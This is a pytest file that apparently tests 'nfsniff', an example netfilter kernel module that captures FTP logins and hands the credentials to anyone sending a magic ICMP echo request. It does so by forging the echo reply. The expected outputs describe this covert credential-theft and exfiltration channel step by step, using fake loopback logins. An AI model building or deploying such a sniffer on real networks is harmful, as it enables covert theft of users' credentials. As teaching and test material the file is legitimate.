# SPDX-License-Identifier: GPL-2.0
"""nfsniff (examples/nfsniff): the .ko and the user-level program on the
same traffic. Fake FTP logins over loopback are captured on POST_ROUTING;
a magic ICMP echo request (code 0x5b, room for the reply) is turned into
the echo reply carrying the pair, with correct checksums, and transmitted
by the module (NF_STOLEN); every other echo request gets the kernel's own
reply."""

import pytest

from diff import MODES, Case, example, harness  # noqa: F401 (fixture)

NFSNIFF = example("nfsniff")

PING = ('ping -c 1 -W 2 {a} >/dev/null && echo "ping {a} answered" || '
        'echo "ping {a} unanswered"')


def creds(frm, ip, user, pw):
    return (f"magic creds from {frm} code 0x5b ip {ip} user {user} "
            f"pass {pw} icmp-csum ok ip-csum ok")


CASES = {
    "capture": Case(
        script="\n".join([
            "$N magic 127.0.0.7",                   # nothing captured yet
            "$N ftp -s 127.0.0.1:4021 127.0.0.3 alice secret",
            "$N magic -l 20 127.0.0.7",             # no room for the reply
            "$N magic -c 0 127.0.0.7",              # an ordinary echo
            PING.format(a="127.0.0.1"),
            "$N magic 127.0.0.7",                   # collects the pair
            "$N magic 127.0.0.7",                   # it has been forgotten
            "$N ftp 127.0.0.3 averyveryverylongusername pw",
            "$N ftp 127.0.0.3 bob pw2",             # ignored: one pending
            "$N magic 10.0.2.15",
            "$N magic 127.0.0.7",
        ]),
        expect=[
            "magic echo code 0x5b",
            "ftp login ok",
            "magic echo code 0x5b",
            "magic echo code 0x0",
            "ping 127.0.0.1 answered",
            creds("127.0.0.7", "127.0.0.3", "alice", "secret"),
            "magic echo code 0x5b",
            "ftp login ok",
            "ftp login ok",
            creds("10.0.2.15", "127.0.0.3", "averyveryverylo", "pw"),
            "magic echo code 0x5b",
        ],
        log=[
            "<6>nfsniff: watching FTP logins on TCP port 21",
            "<6>nfsniff: 127.0.0.3: USER alice",
            "<6>nfsniff: 127.0.0.3: PASS secret",
            "<6>nfsniff: sending 127.0.0.3's credentials to 127.0.0.1 on lo",
            "<6>nfsniff: 127.0.0.3: USER averyveryverylo",
            "<6>nfsniff: 127.0.0.3: PASS pw",
            "<6>nfsniff: sending 127.0.0.3's credentials to 10.0.2.15 on lo",
            "<6>nfsniff: unloaded",
        ]),

    "other-port": Case(
        params=("port=2100",),
        script="\n".join([
            "$N ftp 127.0.0.3 alice secret",
            "$N magic 127.0.0.7",
        ]),
        expect=[
            "ftp login ok",
            "magic echo code 0x5b",
        ],
        log=[
            "<6>nfsniff: watching FTP logins on TCP port 2100",
            "<6>nfsniff: unloaded",
        ]),

    "uncollected": Case(
        script="$N ftp 127.0.0.4 carol hunter2",
        expect=["ftp login ok"],
        log=[
            "<6>nfsniff: watching FTP logins on TCP port 21",
            "<6>nfsniff: 127.0.0.4: USER carol",
            "<6>nfsniff: 127.0.0.4: PASS hunter2",
            "<6>nfsniff: unloaded with 127.0.0.4's credentials uncollected",
        ]),
}


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("key", CASES)
def test_nfsniff(harness, key, mode):
    harness.check(NFSNIFF, key, CASES[key], mode)
